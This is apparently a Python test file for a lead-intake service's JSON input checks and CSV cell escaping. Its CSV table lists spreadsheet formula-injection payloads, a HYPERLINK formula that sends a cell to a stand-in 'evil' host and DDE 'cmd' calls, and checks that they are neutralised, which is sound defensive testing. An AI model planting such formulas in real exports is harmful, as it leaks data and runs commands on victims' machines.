"""The one input check (textsafety) and the CSV cell escaping, table-driven."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest

from leadgate.domain.errors import MalformedRequest
from leadgate.services import textsafety
from leadgate.services.csvsafe import safe_cell, safe_row
from leadgate.services.textsafety import InvalidBody, clean, loads


@pytest.mark.parametrize(("raw", "field"), [
    (b'{"first_name": "Neha\\ud800"}', "first_name"),
    (b'{"first_name": "Neha\\udfff x"}', "first_name"),
    (b'{"a\\ud800": "x"}', "a\\ud800"),
    (b'{"company_size": NaN}', "company_size"),
    (b'{"company_size": Infinity}', "company_size"),
    (b'{"company_size": -Infinity}', "company_size"),
    (b'{"revenue": 1e999}', "revenue"),
    (b'{"company_size": 9223372036854775808}', "company_size"),
    (b'{"company_size": -9223372036854775809}', "company_size"),
    (b'{"company_size": ' + b"9" * 4000 + b"}", "company_size"),
    (b'{"company_size": ' + b"9" * 5000 + b"}", "company_size"),
    (b'{"rules": [{"when": {"value": NaN}}]}', "rules[0].when.value"),
])
def test_unstorable_values_are_refused_naming_the_field(raw: bytes, field: str) -> None:
    with pytest.raises(InvalidBody) as caught:
        loads(raw)
    assert caught.value.field == field
    assert caught.value.status == 422 and caught.value.code == "invalid_body"
    caught.value.message.encode("utf-8")  # the message itself is always valid UTF-8


def test_deep_nesting_is_refused_not_a_recursion_error() -> None:
    with pytest.raises(InvalidBody):
        loads(b"[" * 1500 + b"]" * 1500)
    with pytest.raises(InvalidBody):
        loads(b"[" * 40 + b"]" * 40)  # parses, but deeper than MAX_DEPTH
    assert loads(b"[" * 10 + b"]" * 10) is not None


def test_nul_is_removed_from_values_and_field_names() -> None:
    assert loads(b'{"first_name": "Ne\\u0000ha", "ci\\u0000ty": "Pune"}') == \
        {"first_name": "Neha", "city": "Pune"}


def test_clean_returns_the_same_object_when_nothing_changes() -> None:
    payload = {"first_name": "Asha", "n": 3, "x": 1.5, "ok": True, "none": None}
    assert clean(payload) is payload


@pytest.mark.parametrize("raw", [b"{", b"\xff\xfe", b"nope"])
def test_not_json_is_malformed(raw: bytes) -> None:
    with pytest.raises(MalformedRequest):
        loads(raw)


@pytest.mark.parametrize(("ctype", "ok"), [
    ("application/json", True), ("application/json; charset=utf-8", True),
    ("application/merge-patch+json", True), ("text/plain", False), (None, False),
    ("application/x-www-form-urlencoded", False), ("multipart/form-data; boundary=x", False),
])
def test_require_json_accepts_only_json_media_types(ctype: str | None, ok: bool) -> None:
    if ok:
        textsafety.require_json(ctype)
    else:
        with pytest.raises(textsafety.UnsupportedMediaType):
            textsafety.require_json(ctype)


@pytest.mark.parametrize(("cell", "written"), [
    ("=HYPERLINK(\"http://evil/?\"&A1)", "'=HYPERLINK(\"http://evil/?\"&A1)"),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("+91 98123 45678", "+91 98123 45678"),   # a phone number: no function can run
    ("-12.5", "-12.5"),
    ("Asha", "Asha"),
    ("", ""),
    (42, 42),
])
def test_csv_cells_that_a_spreadsheet_would_run_are_escaped(cell: object, written: object) -> None:
    assert safe_cell(cell) == written


def test_safe_row_survives_a_csv_round_trip() -> None:
    buf = io.StringIO()
    csv.writer(buf).writerow(safe_row(["=1+1", "x"]))
    assert next(csv.reader(io.StringIO(buf.getvalue()))) == ["'=1+1", "x"]


@pytest.mark.parametrize("body", [
    b'{"a": 1, "b": [1.5, -0, 2e300, "x"], "c": {"d": null, "e": true}}',
    b'{"n": 99999999999999999999}',  # beyond 64 bits: orjson would make it a float
    b'{"n": 18446744073709551615}', b'{"n": 9223372036854775808}',
    b'{"n": -9223372036854775808}', b'{"n": -9223372036854775809}', b'{"f": 1e20}',
    b'{"f": 1e999}', b'{"f": -1e999}',
    b'{"f": NaN}', b'{"f": Infinity}', b'{"s": "\\ud800"}', b'{"s": "a\\u0000b"}',
    b'{"a": 1, "a": 2}', b'\xef\xbb\xbf{}', b'\xff', b'{"a": "\x01"}', b'[' * 40 + b']' * 40,
    b'  {"spaced": "out"}  ', b'"just text"', b'{"a": 1} x',
])
def test_the_fast_reading_answers_as_the_strict_one(body: bytes) -> None:
    """loads() reads with orjson first; for every body it must give what Python's
    parser with the hooks gives: the same value or the same error and message."""
    def strict(raw: bytes) -> Any:
        try:
            text = raw.decode("utf-8")
        except UnicodeDecodeError:
            return ("MalformedRequest", None)
        try:
            data = json.loads(text, parse_int=textsafety._parse_int,
                              parse_float=textsafety._parse_float,
                              parse_constant=textsafety._BadNumber)
        except (json.JSONDecodeError, RecursionError, ValueError) as exc:
            return (type(exc).__name__, None)
        try:
            return ("ok", textsafety.clean(data))
        except textsafety.InvalidBody as exc:
            return ("InvalidBody", exc.message)

    try:
        got: Any = ("ok", textsafety.loads(body))
    except textsafety.InvalidBody as exc:
        got = ("InvalidBody", exc.message)
    except MalformedRequest:
        got = ("MalformedRequest", None)
    want = strict(body)
    if want[0] in ("JSONDecodeError", "MalformedRequest"):
        assert got == ("MalformedRequest", None)
    else:
        assert got == want
        if got[0] == "ok":
            assert type(got[1]) is type(want[1])
